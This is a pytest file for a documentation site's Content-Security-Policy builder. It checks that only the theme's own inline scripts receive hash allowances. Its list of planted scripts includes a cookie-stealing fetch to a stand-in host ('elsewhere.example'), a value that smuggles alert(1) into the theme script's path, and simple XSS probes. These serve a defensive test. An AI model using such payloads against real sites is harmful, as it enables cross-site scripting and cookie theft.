"""The page policy allows the theme's own inline scripts, recognised by their shape in the theme's
templates, and no other script, wherever it sits on the page."""

from __future__ import annotations

import base64
import hashlib
from pathlib import Path

import pytest

from bdw_guide.csp import ThemeScripts, theme_script_hashes, with_policy
from bdw_guide.pages import Theme

ROOT = Path(__file__).resolve().parent.parent
THEME = ThemeScripts.from_dirs(Theme.of(ROOT).dirs)
SCOPE = (
    '__md_scope=new URL("{base}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}'
)


def scope(base: str) -> str:
    return SCOPE.replace("{base}", base)


OURS = 'document.documentElement.classList.add("bdw-js")'


def token(body: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()}'"


def page(head: str = "", nav: str = "", content: str = "", base: str = "../..") -> str:
    return (
        f'<html><head><meta charset="utf-8"><script>{scope(base)}</script>'
        f"<script>{OURS}</script><title>{head}</title>{head}</head><body><nav>{nav}</nav>"
        f'<div class="md-content"><article class="md-content__inner">{content}</article></div>'
        '<script id="__config" type="application/json">{}</script><script src="bundle.js"></script></body></html>'
    )


def test_the_theme_scripts_are_read_from_the_templates_ours_included():
    assert THEME.count >= 5  # Material's partials/javascripts/*.html and overrides/main.html
    assert THEME.allows(scope("../..")) and THEME.allows(scope("/")) and THEME.allows(OURS)


def test_only_the_theme_scripts_are_hashed():
    assert theme_script_hashes(page(), THEME) == [token(scope("../..")), token(OURS)]


@pytest.mark.parametrize(
    "planted",
    [
        "window.__planted = 1",
        "alert(document.domain)",
        scope('x"),alert(1),("'),  # a theme script with something else where the path goes
        scope("//elsewhere.example"),
        OURS + ";alert(1)",
        "fetch('//elsewhere.example/?'+document.cookie)",
    ],
)
@pytest.mark.parametrize("where", ["head", "nav", "content"])
def test_a_planted_script_is_never_hashed_wherever_it_lands(planted, where):
    html = page(**{where: f"<script>{planted}</script>"})
    hashes = theme_script_hashes(html, THEME)
    assert token(planted) not in hashes and token(planted) not in with_policy(html, THEME)
    assert hashes == [token(scope("../..")), token(OURS)]


def test_the_policy_comes_right_after_the_charset_before_any_script():
    html = with_policy(page(), THEME)
    assert html.index('http-equiv="Content-Security-Policy"') < html.index("<script>")
    assert html.startswith('<html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy"')


def test_the_content_templates_are_never_a_source_of_allowed_scripts(tmp_path):
    (tmp_path / "bdw").mkdir()
    (tmp_path / "bdw" / "card.html").write_text("<script>cardScript()</script>", encoding="utf-8")
    (tmp_path / "main.html").write_text("<script>themeScript({{ base_url }})</script>", encoding="utf-8")
    scripts = ThemeScripts.from_dirs([tmp_path])
    assert scripts.allows("themeScript(../..)") and not scripts.allows("cardScript()")
    assert not scripts.allows("themeScript(alert(1))")
